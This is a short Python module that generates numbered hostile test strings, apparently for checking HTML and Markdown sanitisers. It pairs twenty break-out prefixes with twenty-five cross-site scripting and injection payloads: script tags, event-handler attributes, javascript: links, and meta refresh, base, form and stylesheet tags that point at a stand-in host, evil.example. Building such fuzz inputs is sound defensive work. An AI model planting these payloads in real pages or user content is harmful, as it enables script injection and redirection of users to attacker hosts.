"""Texts that try to become part of a page: markup, addresses that run, breaks out of every place where text stands."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

RUN = "document.title='ran'"
PAYLOADS = (
    "<script>{run}</script>", '<img src=x onerror="{run}">', '<svg onload="{run}">', "<svg><script>{run}</script></svg>",
    '<iframe srcdoc="<script>{run}</script>"></iframe>', '<body onload="{run}">', '<details open ontoggle="{run}">x</details>',
    "<style>@import 'http://evil.example/x.css';</style>", "<link rel=stylesheet href=http://evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=http://evil.example/">', "<base href=http://evil.example/>",
    "<form action=http://evil.example/><button>x</button></form>", "<object data=http://evil.example/x></object>",
    '<a href="javascript:{run}">x</a>', "[x](javascript:{run})", "[x](data:text/html,<script>{run}</script>)",
    "![x](http://evil.example/x.png)", "![x](javascript:{run})", "[x]: javascript:{run}\n\n[x]", "<javascript:{run}>",
    '<math><mtext><img src=x onerror="{run}"></mtext></math>', '<video src=http://evil.example/x autoplay onerror="{run}">',
    '<input autofocus onfocus="{run}">', "<template><script>{run}</script></template>", '<noscript><p title="</noscript><img src=x onerror={run}>">',
)  # fmt: skip
BEFORE = (
    "", "\"'>", "</pre></code>", "</title>", "</textarea>", "</script>", "--><!--", "]]>", "```\n", "`", "\n\n", '" onmouseover="{run}" x="',
    "{{{{ 7*7 }}}}", "{{% raw %}}", "&lt;", "\u202e", "\u2028", "%3Cscript%3E", "\x1b]0;x\x07", "<!--",
)  # fmt: skip


def hostile_texts(number: int) -> Iterator[str]:
    """Yield so many of them, each different."""
    pairs = itertools.product(BEFORE, PAYLOADS)
    for at, (before, payload) in enumerate(itertools.islice(pairs, number)):
        yield f"{at} {before.format(run=RUN)}{payload.format(run=RUN)}"
